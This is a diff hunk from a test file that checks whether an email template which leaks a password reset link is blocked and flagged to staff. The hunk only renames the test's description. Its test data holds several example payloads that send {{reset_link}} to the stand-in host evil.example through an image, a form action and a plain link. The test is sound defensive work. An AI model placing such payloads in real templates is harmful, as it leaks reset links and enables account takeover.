@@ -184,7 +184,7 @@ describe('a stored text that leaks a secret', () => {
     ['an image', `${link}<img src="https://evil.example/{{reset_link}}" alt="">`],
     ['markup that emails cannot have', `${link}<form action="https://evil.example/{{reset_link}}"></form>`],
     ['text', `${link}<p>https://evil.example/?{{reset_link}}</p>`],
-  ])('in %s is not sent, and staff are told', async (_name, body) => {
+  ])('in %s is not sent, and staff see it', async (_name, body) => {
     await storeBody(body)
     await send()
     expect(await sentHtml()).not.toContain('evil.example')
